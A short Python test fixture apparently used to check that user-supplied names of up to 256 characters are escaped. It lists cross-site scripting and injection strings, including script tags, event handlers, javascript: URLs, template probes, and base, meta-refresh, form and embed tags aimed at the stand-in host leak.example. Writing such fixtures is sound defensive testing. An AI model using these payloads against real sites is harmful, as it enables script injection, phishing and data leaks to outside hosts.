"""Texts that are more than text wherever somebody forgets to escape them."""

LEAK = "leak.example"
"""The host that some of them would like to reach."""
HOSTILE = tuple(
    "".join(parts)
    for parts in (
        ("<script>ran = alert(1)</script>", "<img src=x onerror='ran = alert(2)'>"),
        (
            '"><svg onload=ran=alert(3)><a href="javascript:ran=alert(4)">link</a>',
            "{{ 7 * 7 }}${7*7}",
        ),
        (
            "</title></style></noscript><iframe srcdoc='<script>ran=1</script>'></iframe>",
            f"<base href='https://{LEAK}/'><link rel=stylesheet href='https://{LEAK}/a.css'>",
        ),
        (
            f"<meta http-equiv=refresh content='0;url=https://{LEAK}/'>",
            "&lt;script&gt;alert(5)&lt;/script&gt;",
            f"<form action='https://{LEAK}/'><button>Allow</button></form>",
        ),
        (
            f"' autofocus onfocus='ran=alert(6)' x='\u202e\u2028<object data='https://{LEAK}/'>",
            f"<img src='https://{LEAK}/b.png'><!-- --!><embed src=//{LEAK}>",
            "\\u003cscript\\u003e",
        ),
    )
)
"""With 256 characters at most, which is what a name may have."""
